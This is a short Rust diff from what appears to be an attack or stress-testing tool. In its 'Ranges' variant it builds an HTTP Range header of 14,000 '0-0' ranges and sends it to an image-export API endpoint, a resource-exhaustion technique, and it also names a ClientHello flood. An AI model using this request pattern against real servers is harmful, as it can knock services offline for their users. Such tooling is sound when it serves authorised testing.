@@ -93,7 +93,7 @@ impl Attack {
             }),
             Self::Ranges => ask(site, from, until, |n| {
                 let ranges = vec!["0-0"; 14_000].join(",");
-                let path = format!("/1.0/images/{}/export", fingerprint(n as u64 % 5_000));
+                let path = format!("/1.0/images/{}/export", fingerprint(n % site.images));
                 get(&path, &format!("Range: bytes={ranges}\r\n"))
             }),
             Self::ClientHellos => hellos(site, from, until),
